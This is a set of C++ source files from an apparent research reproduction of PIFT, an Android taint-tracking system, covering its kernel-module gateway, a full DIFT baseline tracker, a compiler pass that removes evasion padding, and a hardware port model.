        core::hw_ports::command,
        static_cast<uint32_t>(core::HwCommand::CheckRange));
    bool tainted = hw_module->readPort(core::hw_ports::result) != 0;
    if (tainted && on_leak)
        on_leak(range, id);
    return tainted;
}

void
PiftModule::clearAll()
{
    sim::ControlEvent ev = makeEvent(taint::AddrRange(0, 0), 0);
    ev.kind = sim::ControlKind::ClearAll;
    hub_ref.publish(ev);
}

} // namespace pift::android
