#include "android/pift_stack.hh"

#include "support/logging.hh"
#include "telemetry/registry.hh"

namespace pift::android
{

namespace
{

/** Software-stack (kernel PIFT module) instruments. */
struct StackTel
{
    telemetry::Counter &sources =
        telemetry::counter("android.sources_registered");
    telemetry::Counter &sink_checks =
        telemetry::counter("android.sink_checks");
    telemetry::Counter &cmd_retries =
        telemetry::counter("android.cmd_retries");
};

StackTel &
atel()
{
    static StackTel t;
    return t;
}

} // anonymous namespace

sim::ControlEvent
PiftModule::makeEvent(const taint::AddrRange &range, uint32_t id) const
{
    sim::ControlEvent ev;
    ev.seq = hub_ref.recordCount();
    ev.pid = cpu_ref.pid();
    ev.start = range.start;
    ev.end = range.end;
    ev.id = id;
    return ev;
}

void
PiftModule::registerRange(const taint::AddrRange &range, uint32_t id)
{
    sim::ControlEvent ev = makeEvent(range, id);
    ev.kind = sim::ControlKind::RegisterSource;
    atel().sources.inc();
    hub_ref.publish(ev);
}

core::SinkVerdict
PiftModule::checkRange(const taint::AddrRange &range, uint32_t id)
{
    sim::ControlEvent ev = makeEvent(range, id);
    ev.kind = sim::ControlKind::CheckSink;
    atel().sink_checks.inc();
    hub_ref.publish(ev);

    if (!hw_module)
        return core::SinkVerdict::Clean;

    // Drive the memory-mapped command ports for a synchronous
    // verdict (Figure 3's Check path through the kernel module).
    // Transient command-port faults are retried a bounded number of
    // times; if the port never latches, degrade to MaybeTainted —
    // the kernel module must not report clean without a verdict.
    for (unsigned attempt = 0; attempt < max_cmd_retries; ++attempt) {
        hw_module->writePort(core::hw_ports::pid, cpu_ref.pid());
        hw_module->writePort(core::hw_ports::start, range.start);
        hw_module->writePort(core::hw_ports::end, range.end);
        hw_module->writePort(
            core::hw_ports::command,
            static_cast<uint32_t>(core::HwCommand::CheckRange));
        uint32_t res = hw_module->readPort(core::hw_ports::result);
        if (res == core::hw_cmd_error) {
            atel().cmd_retries.inc();
            PIFT_PROV(recorder_,
                      recordAt(hub_ref.recordCount(),
                               provenance::ProvKind::CmdRetry,
                               provenance::ProvCause::InjectedCmdError,
                               cpu_ref.pid(), range.start, range.end,
                               id));
            pift_warn_limited(4,
                              "PIFT command port fault on sink check "
                              "%u (attempt %u), re-issuing", id,
                              attempt + 1);
            continue;
        }
        auto verdict = static_cast<core::SinkVerdict>(res);
        if (verdict == core::SinkVerdict::Tainted && on_leak)
            on_leak(range, id);
        return verdict;
    }
    pift_warn_limited(4,
                      "PIFT command port failed %u times on sink "
                      "check %u; reporting maybe-tainted",
                      max_cmd_retries, id);
    PIFT_PROV(recorder_,
              recordAt(hub_ref.recordCount(),
                       provenance::ProvKind::CmdDegraded,
                       provenance::ProvCause::InjectedCmdError,
                       cpu_ref.pid(), range.start, range.end, id, 0, 0,
                       static_cast<uint8_t>(
                           core::SinkVerdict::MaybeTainted)));
    return core::SinkVerdict::MaybeTainted;
}

void
PiftModule::clearAll()
{
    sim::ControlEvent ev = makeEvent(taint::AddrRange(0, 0), 0);
    ev.kind = sim::ControlKind::ClearAll;
    hub_ref.publish(ev);
}

} // namespace pift::android
