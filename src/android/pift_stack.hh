/**
 * @file
 * The three-layer PIFT software stack of Figure 3.
 *
 * PiftManager (Android framework): instruments sources and sinks; at
 * a source the fetched data is registered, at a sink the outgoing
 * data is checked.
 *
 * PiftNative (Android runtime): address translation. For object data
 * (a String) it obtains the pointer to the character array; for a
 * primitive field it computes the field's byte offset inside the
 * owning instance.
 *
 * PiftModule (Linux kernel): forwards register/check commands to the
 * tracking backend. In this reproduction it publishes ControlEvents
 * into the same stream the CPU front-end feeds, so captured traces
 * carry the exact software/hardware interleaving; core::HwModule
 * models the equivalent memory-mapped command ports.
 */

#ifndef PIFT_ANDROID_PIFT_STACK_HH
#define PIFT_ANDROID_PIFT_STACK_HH

#include <cstdint>
#include <functional>

#include "core/hw_module.hh"
#include "provenance/recorder.hh"
#include "runtime/heap.hh"
#include "sim/cpu.hh"
#include "sim/trace.hh"
#include "taint/addr_range.hh"

namespace pift::android
{

/** Kinds of sensitive data sources (the DroidBench set). */
enum class SourceType : uint32_t
{
    DeviceId = 1,    //!< TelephonyManager.getDeviceId (IMEI)
    PhoneNumber = 2, //!< TelephonyManager.getLine1Number
    SerialNumber = 3,
    Location = 4,    //!< LocationManager (GPS latitude/longitude)
    SimId = 5
};

/** Kinds of data sinks. */
enum class SinkType : uint32_t
{
    Sms = 1,  //!< SmsManager.sendTextMessage
    Http = 2, //!< HTTP connection body/URL
    Log = 3   //!< android.util.Log
};

/** Runtime-level address translation (JNI). */
class PiftNative
{
  public:
    explicit PiftNative(runtime::Heap &heap) : heap_ref(heap) {}

    /** Character-array range of a String/char[] object. */
    taint::AddrRange
    translateString(runtime::Ref ref) const
    {
        return heap_ref.charRange(ref);
    }

    /** Byte range of primitive field @p index of @p ref. */
    taint::AddrRange
    translateField(runtime::Ref ref, uint32_t index) const
    {
        return taint::AddrRange::fromSize(
            heap_ref.fieldAddr(ref, index), 4);
    }

  private:
    runtime::Heap &heap_ref;
};

/** Kernel-level gateway to the tracking backend. */
class PiftModule
{
  public:
    /**
     * Invoked when a live check finds taint ("it may generate an
     * event to the upper layer to inform of the potential leakage",
     * Section 3.1).
     */
    using LeakAlert = std::function<void(const taint::AddrRange &,
                                         uint32_t sink_id)>;

    /**
     * @param hub event stream shared with the CPU front-end
     * @param cpu used for the current process id and stream position
     */
    PiftModule(sim::EventHub &hub, sim::Cpu &cpu)
        : hub_ref(hub), cpu_ref(cpu)
    {}

    /**
     * Attach the memory-mapped hardware module for synchronous
     * verdicts (live prevention). Without one, checks are recorded in
     * the stream for offline analysis and return "unknown" (false).
     */
    void attachHw(core::HwModule *hw) { hw_module = hw; }

    /** Install the leak-event callback. */
    void setLeakAlert(LeakAlert alert) { on_leak = std::move(alert); }

    /** Register a sensitive range (source). */
    void registerRange(const taint::AddrRange &range, uint32_t id);

    /**
     * Query a range at a sink. The event is always published into the
     * stream; when a hardware module is attached the live verdict is
     * also returned (and the leak alert fired on taint).
     *
     * Degraded modes surface here: if the hardware lost taint state
     * (storage saturation) or front-end events for this process, a
     * negative check comes back MaybeTainted, and a command port that
     * keeps failing transiently (after bounded retries) also degrades
     * to MaybeTainted rather than pretending the data is clean.
     *
     * @return the live verdict; Clean when no hardware is attached
     */
    core::SinkVerdict checkRange(const taint::AddrRange &range,
                                 uint32_t id);

    /** Command re-issues attempted on transient port faults. */
    static constexpr unsigned max_cmd_retries = 4;

    /** Drop all taint state (app teardown). */
    void clearAll();

    /**
     * Attach a provenance flight recorder (may be null). The kernel
     * module emits CmdRetry per transient port fault and CmdDegraded
     * when the port never latches, stamped with the hub's live record
     * count. No-op in PIFT_PROVENANCE=OFF builds.
     */
    void
    setRecorder(provenance::Recorder *rec)
    {
#if defined(PIFT_PROVENANCE_ENABLED)
        recorder_ = rec;
#else
        (void)rec;
#endif
    }

  private:
    sim::ControlEvent makeEvent(const taint::AddrRange &range,
                                uint32_t id) const;

    sim::EventHub &hub_ref;
    sim::Cpu &cpu_ref;
    core::HwModule *hw_module = nullptr;
    LeakAlert on_leak;
#if defined(PIFT_PROVENANCE_ENABLED)
    provenance::Recorder *recorder_ = nullptr;
#endif
};

/** Framework-level source/sink instrumentation. */
class PiftManager
{
  public:
    PiftManager(PiftNative &native, PiftModule &module)
        : native_ref(native), module_ref(module)
    {}

    /** Register a String source's character data. */
    void
    registerString(runtime::Ref ref, SourceType type)
    {
        module_ref.registerRange(native_ref.translateString(ref),
                                 static_cast<uint32_t>(type));
    }

    /** Register a primitive field source. */
    void
    registerField(runtime::Ref ref, uint32_t field, SourceType type)
    {
        module_ref.registerRange(native_ref.translateField(ref, field),
                                 static_cast<uint32_t>(type));
    }

    /**
     * Check a String at a sink.
     * @return the live tri-state verdict (Clean without hardware)
     */
    core::SinkVerdict
    checkString(runtime::Ref ref, SinkType type)
    {
        return module_ref.checkRange(native_ref.translateString(ref),
                                     static_cast<uint32_t>(type));
    }

  private:
    PiftNative &native_ref;
    PiftModule &module_ref;
};

} // namespace pift::android

#endif // PIFT_ANDROID_PIFT_STACK_HH
