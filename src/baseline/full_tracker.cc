#include "baseline/full_tracker.hh"

#include <algorithm>

#include "isa/inst.hh"
#include "support/logging.hh"

namespace pift::baseline
{

using isa::Op;

void
FullTracker::trackMaxima(const ProcState &ps)
{
    stat.max_tainted_bytes = std::max(stat.max_tainted_bytes,
                                      ps.mem.bytes());
    stat.max_ranges = std::max<uint64_t>(stat.max_ranges,
                                         ps.mem.rangeCount());
}

void
FullTracker::onRecord(const sim::TraceRecord &rec)
{
    ++records_seen;
    ++stat.instructions;
    ProcState &ps = state(rec.pid);

    switch (rec.mem_kind) {
      case sim::MemKind::Load: {
        // Register taint <- memory taint of the accessed bytes.
        // Records synthesized outside the CPU may omit the register
        // operands; such loads have no register-file effect here.
        ++stat.propagations;
        ++stat.reg_ops;
        if (rec.op == Op::Ldrd && rec.dst < 15) {
            ps.regs[rec.dst] = ps.mem.overlaps(
                taint::AddrRange(rec.mem_start, rec.mem_start + 3));
            ps.regs[rec.dst2] = ps.mem.overlaps(
                taint::AddrRange(rec.mem_start + 4, rec.mem_end));
        } else if (rec.op == Op::Ldm && rec.dst < 16) {
            for (uint8_t i = 0; i < rec.reg_count; ++i) {
                Addr lo = rec.mem_start + 4u * i;
                ps.regs[rec.dst + i] =
                    ps.mem.overlaps(taint::AddrRange(lo, lo + 3));
            }
        } else if (rec.dst < 16) {
            ps.regs[rec.dst] = ps.mem.overlaps(
                taint::AddrRange(rec.mem_start, rec.mem_end));
        }
        return;
      }
      case sim::MemKind::Store: {
        // Memory taint <- stored register taint, byte exact.
        ++stat.propagations;
        ++stat.mem_ops;
        if (rec.src[0] >= 16) {
            // Synthetic store with no register operand: treat the
            // stored data as clean.
            ps.mem.remove(taint::AddrRange(rec.mem_start, rec.mem_end));
            trackMaxima(ps);
            return;
        }
        if (rec.op == Op::Strd) {
            taint::AddrRange lo(rec.mem_start, rec.mem_start + 3);
            taint::AddrRange hi(rec.mem_start + 4, rec.mem_end);
            if (ps.regs[rec.src[0]])
                ps.mem.insert(lo);
            else
                ps.mem.remove(lo);
            if (ps.regs[rec.src[1]])
                ps.mem.insert(hi);
            else
                ps.mem.remove(hi);
        } else if (rec.op == Op::Stm) {
            for (uint8_t i = 0; i < rec.reg_count; ++i) {
                Addr lo = rec.mem_start + 4u * i;
                taint::AddrRange word(lo, lo + 3);
                if (ps.regs[rec.src[0] + i])
                    ps.mem.insert(word);
                else
                    ps.mem.remove(word);
            }
        } else {
            taint::AddrRange r(rec.mem_start, rec.mem_end);
            if (ps.regs[rec.src[0]])
                ps.mem.insert(r);
            else
                ps.mem.remove(r);
        }
        trackMaxima(ps);
        return;
      }
      case sim::MemKind::None:
        break;
    }

    // Non-memory instruction: register-to-register propagation.
    switch (rec.op) {
      case Op::Mov: case Op::Mvn: case Op::Add: case Op::Sub:
      case Op::Rsb: case Op::Mul: case Op::And: case Op::Orr:
      case Op::Eor: case Op::Bic: case Op::Lsl: case Op::Lsr:
      case Op::Asr: case Op::Ubfx: case Op::Sbfx: case Op::Sxth:
      case Op::Uxth: case Op::Uxtb: {
        if (rec.dst == no_reg || rec.dst >= 15)
            return;
        bool t = false;
        for (RegIndex s : rec.src)
            if (s != no_reg && s < 16)
                t = t || ps.regs[s];
        ps.regs[rec.dst] = t;
        ++stat.propagations;
        ++stat.reg_ops;
        return;
      }
      case Op::Svc: {
        // ABI-helper taint summary: the __aeabi_* helpers compute
        // r0 <- f(r0[, r1]); propagate argument taint to the result,
        // the same summary TaintDroid applies to native code.
        if (rec.aux >= 16 && rec.aux <= 22) {
            bool two_args = rec.aux != 21 && rec.aux != 22;
            if (two_args)
                ps.regs[0] = ps.regs[0] || ps.regs[1];
            ++stat.propagations;
            ++stat.reg_ops;
        }
        return;
      }

      default:
        // Compares, branches, nop: no taint effect.
        return;
    }
}

void
FullTracker::onControl(const sim::ControlEvent &ev)
{
    ProcState &ps = state(ev.pid);
    taint::AddrRange range(ev.start, ev.end);
    switch (ev.kind) {
      case sim::ControlKind::RegisterSource:
        ps.mem.insert(range);
        trackMaxima(ps);
        break;
      case sim::ControlKind::CheckSink: {
        core::SinkResult res;
        res.sink_id = ev.id;
        res.pid = ev.pid;
        res.range = range;
        res.tainted = ps.mem.overlaps(range);
        res.at_records = records_seen;
        sinks.push_back(res);
        break;
      }
      case sim::ControlKind::ClearAll:
        procs.clear();
        break;
    }
}

bool
FullTracker::anyLeak() const
{
    return std::any_of(sinks.begin(), sinks.end(),
                       [](const core::SinkResult &s) {
                           return s.tainted;
                       });
}

bool
FullTracker::regTainted(ProcId pid, RegIndex r) const
{
    auto it = procs.find(pid);
    return it != procs.end() && r < 16 && it->second.regs[r];
}

const taint::RangeSet &
FullTracker::memTaint(ProcId pid)
{
    return state(pid).mem;
}

void
FullTracker::reset()
{
    procs.clear();
    stat = FullTrackerStats{};
    sinks.clear();
    records_seen = 0;
}

} // namespace pift::baseline
