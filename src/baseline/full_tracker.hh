/**
 * @file
 * Register-level full DIFT baseline.
 *
 * This is the classical taint tracking that PIFT avoids: every
 * instruction propagates taint from source operands to destination
 * operands through the register file (Suh et al. / TaintDroid style,
 * the "full-tracking techniques" of Section 2). Memory taint is
 * byte-granular. Used as (a) ground truth for direct explicit flows
 * when validating the DroidBench apps and PIFT's accuracy, and (b)
 * the cost baseline: it must touch ~10x more instructions than PIFT.
 *
 * Propagation rules (direct flows only, like the paper's threat
 * model):
 *  - ALU: dest taint = OR of source-register taints (immediates are
 *    clean; a register written from only-immediates is cleaned);
 *  - load: register taint = taint of any accessed byte (pointer
 *    taint is not propagated, the standard DIFT choice);
 *  - store: accessed bytes are tainted iff the stored register is
 *    tainted (stores of clean data clean the destination);
 *  - compares/branches: no taint effect (no implicit flows).
 */

#ifndef PIFT_BASELINE_FULL_TRACKER_HH
#define PIFT_BASELINE_FULL_TRACKER_HH

#include <array>
#include <cstdint>
#include <unordered_map>
#include <vector>

#include "core/pift_tracker.hh"
#include "sim/trace.hh"
#include "support/types.hh"
#include "taint/range_set.hh"

namespace pift::baseline
{

/** Cost/activity counters for the baseline. */
struct FullTrackerStats
{
    uint64_t instructions = 0;     //!< records processed
    uint64_t propagations = 0;     //!< taint-moving operations applied
    uint64_t reg_ops = 0;          //!< register-file taint updates
    uint64_t mem_ops = 0;          //!< memory taint updates
    uint64_t max_tainted_bytes = 0;
    uint64_t max_ranges = 0;
};

/** Full per-instruction DIFT over the same trace stream PIFT taps. */
class FullTracker : public sim::TraceSink
{
  public:
    void onRecord(const sim::TraceRecord &rec) override;
    void onControl(const sim::ControlEvent &ev) override;

    const FullTrackerStats &stats() const { return stat; }
    const std::vector<core::SinkResult> &sinkResults() const
    {
        return sinks;
    }

    /** True when any sink check so far saw tainted data. */
    bool anyLeak() const;

    /** Taint state of register @p r in process @p pid (tests). */
    bool regTainted(ProcId pid, RegIndex r) const;

    /** Memory taint of process @p pid (tests). */
    const taint::RangeSet &memTaint(ProcId pid);

    /** Reset all taint and statistics. */
    void reset();

  private:
    struct ProcState
    {
        std::array<bool, 16> regs{};
        taint::RangeSet mem;
    };

    ProcState &state(ProcId pid) { return procs[pid]; }
    void trackMaxima(const ProcState &ps);

    std::unordered_map<ProcId, ProcState> procs;
    FullTrackerStats stat;
    std::vector<core::SinkResult> sinks;
    SeqNum records_seen = 0;
};

} // namespace pift::baseline

#endif // PIFT_BASELINE_FULL_TRACKER_HH
