#include "compiler/scheduler.hh"

#include <algorithm>
#include <set>

#include "support/logging.hh"

namespace pift::compiler
{

namespace
{

using isa::Inst;
using isa::Op;

/** Architectural side effects of one instruction. */
struct Effects
{
    uint32_t reads = 0;   //!< register read mask
    uint32_t writes = 0;  //!< register write mask
    uint32_t data_in = 0; //!< registers whose *value* is stored
    bool reads_flags = false;
    bool writes_flags = false;
    bool memory = false;
    bool control = false;
};

void
addReg(uint32_t &mask, RegIndex r)
{
    if (r < 16)
        mask |= 1u << r;
}

Effects
effectsOf(const Inst &inst)
{
    Effects e;
    if (inst.cond != isa::Cond::Al)
        e.reads_flags = true;
    if (inst.set_flags)
        e.writes_flags = true;

    switch (inst.op) {
      case Op::Nop:
        return e;

      case Op::Mov:
      case Op::Mvn:
        if (!inst.op2.is_imm)
            addReg(e.reads, inst.op2.reg);
        addReg(e.writes, inst.rd);
        break;

      case Op::Add: case Op::Sub: case Op::Rsb: case Op::Mul:
      case Op::And: case Op::Orr: case Op::Eor: case Op::Bic:
      case Op::Lsl: case Op::Lsr: case Op::Asr:
        addReg(e.reads, inst.rn);
        if (!inst.op2.is_imm)
            addReg(e.reads, inst.op2.reg);
        addReg(e.writes, inst.rd);
        break;

      case Op::Ubfx: case Op::Sbfx: case Op::Sxth: case Op::Uxth:
      case Op::Uxtb:
        addReg(e.reads, inst.rn);
        addReg(e.writes, inst.rd);
        break;

      case Op::Cmp: case Op::Cmn: case Op::Tst:
        addReg(e.reads, inst.rn);
        if (!inst.op2.is_imm)
            addReg(e.reads, inst.op2.reg);
        e.writes_flags = true;
        break;

      case Op::B:
        e.control = true;
        break;
      case Op::Bl:
        e.control = true;
        addReg(e.writes, 14);
        break;
      case Op::Bx:
        e.control = true;
        addReg(e.reads, inst.op2.reg);
        break;

      case Op::Ldr: case Op::Ldrh: case Op::Ldrb:
        e.memory = true;
        addReg(e.reads, inst.mem.base);
        addReg(e.reads, inst.mem.index);
        addReg(e.writes, inst.rd);
        if (inst.mem.writeback != isa::WriteBack::None)
            addReg(e.writes, inst.mem.base);
        break;
      case Op::Ldrd:
        e.memory = true;
        addReg(e.reads, inst.mem.base);
        addReg(e.reads, inst.mem.index);
        addReg(e.writes, inst.rd);
        addReg(e.writes, static_cast<RegIndex>(inst.rd + 1));
        if (inst.mem.writeback != isa::WriteBack::None)
            addReg(e.writes, inst.mem.base);
        break;
      case Op::Ldm:
        e.memory = true;
        addReg(e.reads, inst.rn);
        for (uint8_t i = 0; i < inst.reg_count; ++i)
            addReg(e.writes, static_cast<RegIndex>(inst.rd + i));
        addReg(e.writes, inst.rn);
        break;

      case Op::Str: case Op::Strh: case Op::Strb:
        e.memory = true;
        addReg(e.reads, inst.mem.base);
        addReg(e.reads, inst.mem.index);
        addReg(e.reads, inst.rd);
        addReg(e.data_in, inst.rd);
        if (inst.mem.writeback != isa::WriteBack::None)
            addReg(e.writes, inst.mem.base);
        break;
      case Op::Strd:
        e.memory = true;
        addReg(e.reads, inst.mem.base);
        addReg(e.reads, inst.mem.index);
        addReg(e.reads, inst.rd);
        addReg(e.reads, static_cast<RegIndex>(inst.rd + 1));
        addReg(e.data_in, inst.rd);
        addReg(e.data_in, static_cast<RegIndex>(inst.rd + 1));
        if (inst.mem.writeback != isa::WriteBack::None)
            addReg(e.writes, inst.mem.base);
        break;
      case Op::Stm:
        e.memory = true;
        addReg(e.reads, inst.rn);
        for (uint8_t i = 0; i < inst.reg_count; ++i) {
            addReg(e.reads, static_cast<RegIndex>(inst.rd + i));
            addReg(e.data_in, static_cast<RegIndex>(inst.rd + i));
        }
        addReg(e.writes, inst.rn);
        break;

      case Op::Svc:
      case Op::Halt:
        e.control = true;
        break;

      default:
        e.control = true; // unknown: maximally constrained
        break;
    }

    // A write to pc is a control transfer.
    if (e.writes & (1u << 15)) {
        e.control = true;
        e.writes &= ~(1u << 15);
    }
    return e;
}

bool
isPlainAlu(const Inst &inst, const Effects &e)
{
    return !e.memory && !e.control && !e.reads_flags &&
        !e.writes_flags && inst.cond == isa::Cond::Al;
}

/** First dependent store after load @p li inside [begin, end). */
int
dependentStore(const std::vector<Inst> &insts,
               const std::vector<Effects> &fx, size_t li, size_t end)
{
    uint32_t carrying = fx[li].writes;
    for (size_t k = li + 1; k < end && carrying; ++k) {
        const Effects &e = fx[k];
        if (isa::isStore(insts[k].op) && (e.data_in & carrying))
            return static_cast<int>(k);
        if (e.reads & carrying)
            carrying |= e.writes;  // value flows onward
        else
            carrying &= ~e.writes; // overwritten with unrelated data
    }
    return -1;
}

} // anonymous namespace

std::vector<size_t>
blockLeaders(const isa::Program &prog)
{
    std::set<size_t> leaders;
    leaders.insert(0);
    for (const auto &[name, addr] : prog.labels)
        if (prog.contains(addr))
            leaders.insert((addr - prog.base) / isa::inst_bytes);
    for (size_t i = 0; i < prog.insts.size(); ++i) {
        const Inst &inst = prog.insts[i];
        Effects e = effectsOf(inst);
        if ((inst.op == Op::B || inst.op == Op::Bl) &&
            prog.contains(inst.target)) {
            leaders.insert((inst.target - prog.base) /
                           isa::inst_bytes);
        }
        if (e.control && i + 1 < prog.insts.size())
            leaders.insert(i + 1);
    }
    return {leaders.begin(), leaders.end()};
}

int
worstLoadStoreDistance(const isa::Program &prog)
{
    std::vector<Effects> fx;
    fx.reserve(prog.insts.size());
    for (const auto &inst : prog.insts)
        fx.push_back(effectsOf(inst));

    auto leaders = blockLeaders(prog);
    int worst = -1;
    for (size_t b = 0; b < leaders.size(); ++b) {
        size_t begin = leaders[b];
        size_t end = b + 1 < leaders.size() ? leaders[b + 1]
            : prog.insts.size();
        for (size_t i = begin; i < end; ++i) {
            if (!isa::isLoad(prog.insts[i].op))
                continue;
            int s = dependentStore(prog.insts, fx, i, end);
            if (s >= 0)
                worst = std::max(worst, s - static_cast<int>(i));
        }
    }
    return worst;
}

ScheduleStats
optimizeForPift(isa::Program &prog)
{
    ScheduleStats stats;
    auto leaders = blockLeaders(prog);
    stats.blocks = leaders.size();

    auto effects_of_all = [&prog]() {
        std::vector<Effects> fx;
        fx.reserve(prog.insts.size());
        for (const auto &inst : prog.insts)
            fx.push_back(effectsOf(inst));
        return fx;
    };

    // ---- Pass 1: dead-code elimination -----------------------------
    {
        std::vector<Effects> fx = effects_of_all();
        for (size_t b = 0; b < leaders.size(); ++b) {
            size_t begin = leaders[b];
            size_t end = b + 1 < leaders.size() ? leaders[b + 1]
                : prog.insts.size();
            for (size_t i = begin; i < end; ++i) {
                const Inst &inst = prog.insts[i];
                if (inst.op == Op::Nop || !isPlainAlu(inst, fx[i]) ||
                    fx[i].writes == 0) {
                    continue;
                }
                uint32_t defs = fx[i].writes;
                bool dead = false;
                for (size_t k = i + 1; k < end; ++k) {
                    if (fx[k].reads & defs)
                        break; // used: live
                    if ((fx[k].writes & defs) == defs) {
                        dead = true; // fully overwritten before use
                        break;
                    }
                    defs &= ~fx[k].writes;
                    if (!defs)
                        break;
                }
                if (dead) {
                    prog.insts[i] = Inst{}; // nop
                    fx[i] = Effects{};
                    ++stats.dead_eliminated;
                }
            }
        }
    }

    // ---- Pass 2: load-store tightening ------------------------------
    bool changed = true;
    unsigned rounds = 0;
    while (changed && rounds++ < 64) {
        changed = false;
        std::vector<Effects> fx = effects_of_all();
        for (size_t b = 0; b < leaders.size(); ++b) {
            size_t begin = leaders[b];
            size_t end = b + 1 < leaders.size() ? leaders[b + 1]
                : prog.insts.size();
            for (size_t i = begin; i < end; ++i) {
                if (!isa::isLoad(prog.insts[i].op))
                    continue;
                int s = dependentStore(prog.insts, fx, i, end);
                if (s < 0 || static_cast<size_t>(s) <= i + 1)
                    continue;
                size_t j = static_cast<size_t>(s);
                bool tightened = false;

                // Try to relocate each instruction in (i, j) to just
                // after the store. Scan from the store backwards so a
                // single round can drain a whole run of padding.
                for (size_t k = j; k-- > i + 1;) {
                    const Inst &m = prog.insts[k];
                    Effects me = effectsOf(m);
                    if (m.op != Op::Nop && !isPlainAlu(m, me))
                        continue;
                    // m must commute with every instruction it jumps
                    // over: (k, j].
                    bool independent = true;
                    for (size_t n = k + 1; n <= j && independent;
                         ++n) {
                        const Effects &ne =
                            n < fx.size() ? fx[n] : effectsOf(
                                prog.insts[n]);
                        if ((me.writes & (ne.reads | ne.writes)) ||
                            (me.reads & ne.writes)) {
                            independent = false;
                        }
                    }
                    if (!independent)
                        continue;
                    // Rotate m from position k to position j.
                    Inst moved_inst = prog.insts[k];
                    prog.insts.erase(prog.insts.begin() +
                                     static_cast<long>(k));
                    prog.insts.insert(prog.insts.begin() +
                                      static_cast<long>(j),
                                      moved_inst);
                    fx = effects_of_all();
                    ++stats.moved;
                    tightened = true;
                    changed = true;
                    --j; // the store moved one slot earlier
                }
                if (tightened)
                    ++stats.pairs_tightened;
            }
        }
    }

    return stats;
}

} // namespace pift::compiler
