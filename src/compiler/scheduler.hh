/**
 * @file
 * PIFT-aware native code optimization (the paper's Section 7
 * follow-up): defeat the Section 4.2 evasion, where an attacker
 * inserts an arbitrarily long block of dummy native instructions
 * between a load of sensitive data and the store of its copy so the
 * store falls outside any realistic tainting window.
 *
 * "A compiler support for PIFT could address such attacks. For
 *  example, the compiler could eliminate dummy code inserted between
 *  related load/store instructions and could relocate such
 *  instructions to be closer to each other."
 *
 * Two passes over each basic block:
 *
 *  1. dead-code elimination — a side-effect-free data-processing
 *     instruction whose result is overwritten before any use is
 *     replaced with a nop (the classic shape of dummy padding);
 *  2. load-store tightening — for every load whose value feeds a
 *     later store in the same block, independent instructions between
 *     the pair (including the nops pass 1 left behind) are relocated
 *     after the store when the reordering provably commutes.
 *
 * Both passes preserve program semantics (checked by differential
 * execution in the tests) and program geometry: blocks keep their
 * boundaries, so branch targets and labels stay valid.
 */

#ifndef PIFT_COMPILER_SCHEDULER_HH
#define PIFT_COMPILER_SCHEDULER_HH

#include <cstdint>
#include <vector>

#include "isa/assembler.hh"

namespace pift::compiler
{

/** What the optimizer did to a program. */
struct ScheduleStats
{
    uint64_t dead_eliminated = 0;  //!< instructions nop'ed by DCE
    uint64_t moved = 0;            //!< instructions relocated
    uint64_t pairs_tightened = 0;  //!< load-store pairs brought closer
    uint64_t blocks = 0;           //!< basic blocks processed
};

/**
 * The longest data-dependent load->store distance in @p prog,
 * assuming straight-line execution within basic blocks (the metric
 * the tainting window must cover). Returns -1 when the program has
 * no dependent pair.
 */
int worstLoadStoreDistance(const isa::Program &prog);

/**
 * Run the PIFT-aware optimization in place.
 * @return statistics about the transformation
 */
ScheduleStats optimizeForPift(isa::Program &prog);

/** Basic-block boundaries of @p prog (instruction indices). */
std::vector<size_t> blockLeaders(const isa::Program &prog);

} // namespace pift::compiler

#endif // PIFT_COMPILER_SCHEDULER_HH
