#include "core/hw_module.hh"

#include "support/logging.hh"
#include "telemetry/registry.hh"

namespace pift::core
{

namespace
{

/** MMIO command-protocol instruments. */
struct HwTel
{
    telemetry::Counter &commands =
        telemetry::counter("core.hw.commands");
    telemetry::Counter &cmd_errors =
        telemetry::counter("core.hw.cmd_errors");
};

HwTel &
htel()
{
    static HwTel t;
    return t;
}

} // anonymous namespace

void
HwModule::writePort(Addr offset, uint32_t value)
{
    switch (offset) {
      case hw_ports::start:
        reg_start = value;
        break;
      case hw_ports::end:
        reg_end = value;
        break;
      case hw_ports::pid:
        reg_pid = value;
        break;
      case hw_ports::ni:
        reg_ni = value;
        break;
      case hw_ports::nt:
        reg_nt = value;
        break;
      case hw_ports::untaint:
        reg_untaint = value;
        break;
      case hw_ports::command:
        execute(static_cast<HwCommand>(value));
        break;
      default:
        pift_warn("write to unknown PIFT port offset 0x%x", offset);
        break;
    }
}

uint32_t
HwModule::readPort(Addr offset) const
{
    switch (offset) {
      case hw_ports::command: return 0;
      case hw_ports::start:   return reg_start;
      case hw_ports::end:     return reg_end;
      case hw_ports::pid:     return reg_pid;
      case hw_ports::ni:      return reg_ni;
      case hw_ports::nt:      return reg_nt;
      case hw_ports::untaint: return reg_untaint;
      case hw_ports::result:  return reg_result;
      case hw_ports::status: {
        uint32_t s = 0;
        if (tracker_.degraded(reg_pid))
            s |= hw_status::degraded;
        if (last_cmd_failed)
            s |= hw_status::cmd_failed;
        return s;
      }
      default:
        pift_warn("read from unknown PIFT port offset 0x%x", offset);
        return 0;
    }
}

void
HwModule::execute(HwCommand cmd)
{
    if (cmd != HwCommand::None)
        htel().commands.inc();
    if (cmd != HwCommand::None && cmd_fault && cmd_fault()) {
        // Transient port fault: the command never reaches the
        // engine. Software sees hw_cmd_error and must re-issue.
        htel().cmd_errors.inc();
        reg_result = hw_cmd_error;
        last_cmd_failed = true;
        return;
    }
    last_cmd_failed = false;

    sim::ControlEvent ev;
    ev.pid = reg_pid;
    ev.start = reg_start;
    ev.end = reg_end;
    switch (cmd) {
      case HwCommand::RegisterRange:
        ev.kind = sim::ControlKind::RegisterSource;
        tracker_.onControl(ev);
        reg_result = 1;
        break;
      case HwCommand::CheckRange: {
        ev.kind = sim::ControlKind::CheckSink;
        tracker_.onControl(ev);
        reg_result = static_cast<uint32_t>(
            tracker_.sinkResults().back().verdict);
        break;
      }
      case HwCommand::Configure: {
        PiftParams p;
        p.ni = reg_ni;
        p.nt = reg_nt;
        p.untaint = reg_untaint != 0;
        tracker_.setParams(p);
        reg_result = 1;
        break;
      }
      case HwCommand::ClearAll:
        ev.kind = sim::ControlKind::ClearAll;
        tracker_.onControl(ev);
        reg_result = 1;
        break;
      case HwCommand::None:
        break;
    }
}

} // namespace pift::core
