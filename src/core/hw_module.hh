/**
 * @file
 * The PIFT hardware module programming model (Figures 3 and 5).
 *
 * Software (the kernel-level PIFT Module) talks to the on-chip PIFT
 * hardware through an array of memory-mapped ports: it writes the
 * operand registers (address range, pid, parameters), then writes a
 * command code to the command port; the module latches the result
 * into the result port. Taint lookup/propagation from the CPU
 * front-end never goes through these ports — it is driven by the
